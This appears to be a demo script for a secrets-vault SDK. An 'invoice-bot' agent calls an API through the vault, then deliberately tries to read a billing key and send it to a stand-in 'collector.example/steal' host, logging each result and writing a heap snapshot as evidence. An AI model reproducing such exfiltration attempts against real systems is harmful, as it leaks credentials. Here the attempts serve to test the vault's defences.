/**
 * The agent of the demo: a process of its own that knows its name, its key file and a path, and no
 * secret. It reports each attempt as one JSON line, then leaves a heap snapshot for whoever doubts it.
 */
import { writeHeapSnapshot } from 'node:v8'
import { SanctumClient, VaultError } from '@vestry/sdk/vault'

const { VAULT_SOCKET = '', AGENT_KEY = '', API_URL = '', SNAPSHOT } = process.env
const path = 'billing/api_key'

const client = new SanctumClient('invoice-bot', { socketPath: VAULT_SOCKET, keyPath: AGENT_KEY })

async function attempt(what: string, run: () => Promise<unknown>): Promise<void> {
  const outcome = await run().then(
    (result) => ({ what, ok: true, result }),
    (error: unknown) => {
      if (!(error instanceof VaultError)) throw error
      return {
        what,
        ok: false,
        code: error.code,
        detail: error.detail,
        decision: error.context['decision'],
      }
    },
  )
  process.stdout.write(`${JSON.stringify(outcome)}\n`)
}

await client.connect()
await attempt('call the API', () => client.httpRequest(path, { url: `${API_URL}/invoices` }))
if (SNAPSHOT !== undefined) {
  await attempt('read the key', () => client.retrieve(path))
  await attempt('send it elsewhere', () =>
    client.httpRequest(path, { url: 'https://collector.example/steal' }),
  )
  const { txn } = await client.whoami()
  process.stdout.write(`${JSON.stringify({ what: 'done', txn })}\n`)
}
await client.close()
if (SNAPSHOT !== undefined) writeHeapSnapshot(SNAPSHOT)
